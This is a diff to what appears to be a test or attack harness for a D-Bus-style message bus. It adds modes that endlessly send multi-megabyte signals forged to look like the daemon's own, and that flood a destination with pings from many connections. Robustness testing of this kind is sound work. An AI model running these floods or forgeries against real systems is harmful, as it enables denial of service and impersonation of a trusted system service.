@@ -218,6 +218,28 @@ def forge(address, victim):
     return exchange(connect(address), b"".join([*calls, message(PEER, "Ping", 3)]), 2)
 
 
+def forge_large(address, destination):
+    """Signals of many MB that look like the daemon's, sent to DESTINATION without end."""
+    entry = string("") + b"\1y\0" + bytes(8)  # a name and a byte, padded
+    entries = (entry * ((7 << 20) // len(entry)))[:-7]  # the last one needs no padding
+    body = string(BACK[2])
+    body += bytes(-len(body) % 4) + struct.pack("<I", len(entries))
+    body += bytes(-len(body) % 8) + entries
+    body += bytes(-len(body) % 4) + struct.pack("<I", 0)
+    where = (destination, BACK[1], PROPERTIES[2])
+    signal = message(where, "PropertiesChanged", 2, "sa{sv}as", body, kind=4)
+    sock = connect(address)
+    print("ready", flush=True)
+    while True:
+        sock.sendall(signal)
+
+
+def ping_at(address, destination, connections):
+    """CONNECTIONS that ping DESTINATION without end."""
+    where = (destination, "/", PEER[2])
+    return crowd(address, [message(where, "Ping", 2 + n) for n in range(400)], connections, 600)
+
+
 def save_body(uuid):
     first = string(uuid)
     return first + bytes(-len(first) % 4) + string("name")
@@ -248,6 +270,8 @@ def main(address, mode, *args):
         "large": lambda: large(address),
         "signatures": lambda: signatures(address, int(args[0])),
         "forge": lambda: forge(address, args[0]),
+        "forge_large": lambda: forge_large(address, args[0]),
+        "ping_at": lambda: ping_at(address, args[0], int(args[1])),
     }[mode]()
     print(json.dumps(result), flush=True)
 
